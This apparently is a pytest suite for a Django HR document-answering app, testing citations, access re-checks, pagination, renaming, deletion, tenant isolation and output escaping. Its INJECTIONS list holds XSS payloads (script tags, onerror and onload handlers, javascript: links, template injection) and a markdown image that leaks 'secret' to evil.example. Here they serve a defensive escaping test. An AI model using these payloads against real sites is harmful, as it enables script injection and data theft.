"""Conversations as their owner sees them today: re-checked access, escaped text, own things only."""

import re
import uuid
from datetime import timedelta
from html.parser import HTMLParser

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from audit.models import AuditLog
from documents.models import Document
from retrieval.models import Conversation, Feedback, Query
from retrieval.tests import stories
from retrieval.tests.browsing import browser_of
from tenants import context

QUOTE = "Parents receive 16 weeks of paid parental leave."
OTHER_QUOTE = "Twins: 20 weeks."
WITHHELD = "A source of this answer is no longer available to you."


@pytest.fixture
def browser(bob, acme) -> Client:
    return browser_of(bob, acme)


def _page(browser: Client, query: Query) -> str:
    reply = browser.get(f"/c/{query.conversation_id}/")
    assert reply.status_code == 200
    assert reply["Cache-Control"] == "private, no-store"
    return reply.content.decode()


def test_answer_shows_sentences_with_numbers_and_their_sources(browser, bob, in_acme):
    document = stories.make_document()
    query = stories.make_answer(employee=bob, quotes=((document, QUOTE), (document, OTHER_QUOTE)))

    page = _page(browser, query)

    assert QUOTE in page and "Quoted from your documents" in page
    assert re.findall(rf'class="cite" href="/passage/{query.pk}/(\d)/#cited"', page) == ["1", "2"]
    assert "Page 3" in page and "Length" in page
    assert "Well supported" in page and "90 of 100" in page


def test_language_models_answer_is_labelled_with_its_support_in_words(browser, bob, in_acme):
    document = stories.make_document()
    query = stories.make_answer(
        employee=bob,
        quotes=((document, QUOTE),),
        sentences=[{"text": "You get 16 weeks.", "citations": [1]}],
        generator="some-model",
        confidence=0.55,
    )

    page = _page(browser, query)

    assert "Written by a language model from your documents" in page and "some-model" in page
    assert "Partly supported" in page
    assert QUOTE in page  # the quote stands below, because the answer does not say it itself


def test_abstention_is_honest_names_a_person_and_the_nearest_sources(browser, bob, in_acme):
    in_acme.contact_name, in_acme.contact_email = "Alice Brandt", "hr@acme.example"
    in_acme.save()
    document = stories.make_document()
    query = stories.make_answer(employee=bob, quotes=((document, QUOTE),), outcome="abstained", confidence=0.2)

    page = _page(browser, query)

    assert "The documents do not say." in page
    assert 'href="mailto:hr@acme.example"' in page and "Alice Brandt" in page
    assert "These came closest" in page and QUOTE in page


def test_abstention_without_sources_or_contact_stays_readable(browser, bob, in_acme):
    page = _page(browser, stories.make_answer(employee=bob, outcome="abstained", confidence=0))

    assert "Your HR department can help." in page
    assert "These came closest" not in page


def _make_confidential(document: Document) -> None:
    Document.objects.filter(pk=document.pk).update(is_confidential=True)


def _delete(document: Document) -> None:
    Document.objects.filter(pk=document.pk).update(deleted_at=timezone.now())


@pytest.mark.parametrize("withdraw", [_make_confidential, _delete])
def test_old_answer_hides_what_rests_on_a_document_that_is_closed_now(browser, bob, in_acme, withdraw):
    kept, closed = stories.make_document(title="Kept"), stories.make_document(title="Closed")
    query = stories.make_answer(
        employee=bob,
        quotes=((kept, QUOTE), (closed, OTHER_QUOTE)),
        sentences=[
            {"text": "Only from the closed one.", "citations": [2]},
            {"text": "This as well.", "citations": [2]},
            {"text": "From both.", "citations": [1, 2]},
        ],
    )

    withdraw(closed)

    page = _page(browser, query)
    assert "Only from the closed one." not in page and "This as well." not in page
    assert OTHER_QUOTE not in page and "Closed" not in page
    assert "From both." in page and QUOTE in page
    assert page.count(WITHHELD) == 1
    assert f"/passage/{query.pk}/2/" not in page
    assert browser.get(f"/passage/{query.pk}/2/").status_code == 404


def test_hr_still_sees_what_became_confidential(alice, acme, in_acme):
    document = stories.make_document(is_confidential=True)
    query = stories.make_answer(employee=alice, quotes=((document, QUOTE),))

    page = _page(browser_of(alice, acme), query)

    assert QUOTE in page and WITHHELD not in page


def test_nearest_sources_are_rechecked_as_well(browser, bob, in_acme):
    document = stories.make_document(title="Salary bands", is_confidential=True)
    query = stories.make_answer(employee=bob, quotes=((document, QUOTE),), outcome="abstained", confidence=0.2)

    page = _page(browser, query)

    assert "Salary bands" not in page and QUOTE not in page


def test_sentence_without_a_known_source_is_never_shown(browser, bob, in_acme):
    document = stories.make_document()
    query = stories.make_answer(
        employee=bob,
        quotes=((document, QUOTE),),
        sentences=[{"text": "From nowhere.", "citations": []}, {"text": "From source nine.", "citations": [9]}],
    )

    page = _page(browser, query)

    assert "From nowhere." not in page and "From source nine." not in page
    assert WITHHELD in page


INJECTIONS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "![pixel](https://evil.example/p.png?q=secret)",
    "[click](https://evil.example/)",
    "https://evil.example/",
    "<a href='javascript:alert(1)'>x</a>",
    "{{ request.user.password }}{% url 'home' %}",
    "- <iframe src=//evil.example>",
    "a | <b>b</b>",
]


class _Tags(HTMLParser):
    """Every tag of a page, and the problems a reader of it would have."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.foreign: list[str] = []
        self.scripts = 0
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.scripts += tag == "script"
        if tag in ("img", "iframe", "object", "embed", "base", "b", "i", "style"):
            self.foreign.append(tag)
        for name, value in attrs:
            is_address = name in ("href", "src", "action", "formaction") and value
            is_own = is_address and re.match(r"/(?!/)|#|\?", str(value))
            if name.startswith("on") or name == "style" or (is_address and not is_own):
                self.foreign.append(f"{tag} {name}={value}")


@pytest.mark.parametrize("text", INJECTIONS)
def test_text_of_models_documents_and_people_never_becomes_markup(browser, bob, in_acme, text):
    document = stories.make_document(title=text, blocks=(("heading", 1, text), ("paragraph", 0, text)))
    query = stories.make_answer(
        employee=bob,
        question=text,
        quotes=((document, text),),
        sentences=[{"text": text, "citations": [1]}],
        generator=text,
    )
    Feedback.objects.create(query=query, rating="down", comment=text)

    conversation = _Tags(_page(browser, query))
    passage = _Tags(browser.get(f"/passage/{query.pk}/1/").content.decode())

    assert conversation.foreign == [] and passage.foreign == []
    assert (conversation.scripts, passage.scripts) == (2, 1)


def test_conversation_costs_the_same_queries_for_one_answer_and_for_ten(browser, bob, in_acme):
    document = stories.make_document()
    one = stories.make_answer(employee=bob, quotes=((document, QUOTE),))
    many = stories.make_answer(employee=bob, quotes=((document, QUOTE),))
    for _ in range(9):
        stories.make_answer(employee=bob, quotes=((document, QUOTE),), conversation=many.conversation)
    _page(browser, one)

    with CaptureQueriesContext(
        connection,
    ) as for_one:
        _page(browser, one)
    with CaptureQueriesContext(connection) as for_ten:
        _page(browser, many)

    asked = [query["sql"] for query in for_ten if not query["sql"].startswith("SET search_path")]
    assert len(for_ten) == len(for_one)
    assert len(asked) <= 10, "\n".join(asked)


def test_long_conversation_shows_the_latest_and_leads_to_the_rest(browser, bob, in_acme):
    first = stories.make_answer(employee=bob, question="number 0")
    for number in range(1, 25):
        stories.make_answer(employee=bob, question=f"number {number}.", conversation=first.conversation)

    page = _page(browser, first)
    older = browser.get(f"/c/{first.conversation_id}/?page=2").content.decode()

    assert "number 24." in page and "number 5." in page and "number 4." not in page
    assert page.index("number 5.") < page.index("number 24.")
    assert "Earlier questions" in page
    assert "number 4." in older and "Later questions" in older


def test_list_shows_own_conversations_the_latest_first_in_pages(browser, bob, alice, in_acme):
    stories.make_answer(employee=alice, question="Alice's secret")
    for number in range(30):
        conversation = stories.make_answer(employee=bob, question=f"Topic {number:02}").conversation
        Conversation.objects.filter(pk=conversation.pk).update(updated_at=timezone.now() + timedelta(minutes=number))

    first, second = (browser.get(f"/conversations/?page={n}").content.decode() for n in (1, 2))

    main = first[first.index("<main") :]
    assert main.index("Topic 29") < main.index("Topic 05")
    assert "Page 1 of 2" in first and "Topic 04" in second
    assert "Alice&#x27;s secret" not in first + second


@pytest.mark.parametrize("page", ["0", "-1", "99", "x", "", "9" * 400])
def test_odd_page_numbers_show_a_page(browser, bob, in_acme, page):
    query = stories.make_answer(employee=bob)

    assert browser.get(f"/conversations/?page={page}").status_code == 200
    assert browser.get(f"/c/{query.conversation_id}/?page={page}").status_code == 200


def test_rename_asks_with_the_present_title_and_keeps_the_new_one(browser, bob, in_acme):
    query = stories.make_answer(employee=bob, question="Old title")
    path = f"/c/{query.conversation_id}/rename/"
    assert 'value="Old title"' in browser.get(path).content.decode()

    assert browser.post(path, {"title": " New  title "})["Location"] == f"/c/{query.conversation_id}/"

    assert '<h1 dir="auto">New title</h1>' in _page(browser, query)


@pytest.mark.parametrize("title", ["", "   ", "x" * 201, "a\x00b"])
def test_impossible_title_is_told(browser, bob, in_acme, title):
    query = stories.make_answer(employee=bob, question="Old title")

    reply = browser.post(f"/c/{query.conversation_id}/rename/", {"title": title})

    assert reply.status_code == 422
    assert Conversation.objects.get(pk=query.conversation_id).title == "Old title"


def test_delete_asks_first_then_removes_everything_but_the_audit(browser, bob, in_acme):
    query = stories.make_answer(employee=bob)
    path = f"/c/{query.conversation_id}/delete/"

    assert "Delete this conversation?" in browser.get(path).content.decode()
    assert Query.objects.filter(pk=query.pk).exists()

    assert browser.post(path)["Location"] == "/conversations/"
    assert not Query.objects.filter(pk=query.pk).exists()
    assert "The conversation is deleted." in browser.get("/conversations/").content.decode()
    assert AuditLog.objects.filter(verb="conversation.delete", actor=bob.actor_label).count() == 1


@pytest.mark.parametrize("suffix", ["", "rename/", "delete/"])
def test_foreign_and_missing_conversations_are_the_same_404(bob, alice, charlie, acme, globex, suffix):
    with context.enter(acme):
        theirs = stories.make_answer(employee=alice).conversation_id
    missing = uuid.uuid4()

    for browser in (browser_of(bob, acme), browser_of(charlie, globex)):
        for method in (browser.get, browser.post):
            replies = [method(f"/c/{pk}/{suffix}") for pk in (theirs, missing)]
            assert [reply.status_code for reply in replies] == [404, 404]
            assert replies[0].content == replies[1].content

    with context.enter(acme):
        assert Conversation.objects.filter(pk=theirs).exists()


def test_side_bar_marks_where_one_is(browser, bob, in_acme):
    query = stories.make_answer(employee=bob, question="Where am I?")

    assert re.search(rf'href="/c/{query.conversation_id}/" dir="auto" aria-current="page"', _page(browser, query))


def test_quoted_table_is_shown_row_by_row_and_items_as_items(browser, bob, in_acme):
    document = stories.make_document()
    query = stories.make_answer(
        employee=bob,
        quotes=((document, "Parent: Mother | Weeks: 16\nParent: Father | Weeks: 12"),),
        sentences=[
            {"text": "Parent: Mother | Weeks: 16\nParent: Father | Weeks: 12", "citations": [1]},
            {"text": "- Twins get more.", "citations": [1]},
            {"text": "Yes.", "citations": [1]},
            {"text": "It is paid.", "citations": [1]},
        ],
    )

    page = _page(browser, query)

    assert page.count('<span class="line">') == 2
    assert '<span class="cell-label">Parent:</span> Father' in page
    assert re.search(r'<p class="item"><span class="sentence">Twins get more\.', page)
    assert page.count("<p><span") == 2  # the table, and the two sentences as one paragraph
    assert page.count(f'class="cite" href="/passage/{query.pk}/1/#cited"') == 4


def test_quotes_from_one_place_share_a_card_with_a_number_each(browser, bob, in_acme):
    document = stories.make_document()
    quotes = (QUOTE, "It is taken within a year of the birth.", OTHER_QUOTE)
    query = stories.make_answer(employee=bob, quotes=tuple((document, quote) for quote in quotes))

    page = _page(browser, query)

    assert page.count('<li class="source">') == 1
    assert re.findall(rf'class="source-number" href="/passage/{query.pk}/(\d)/#cited"', page) == ["1", "2", "3"]
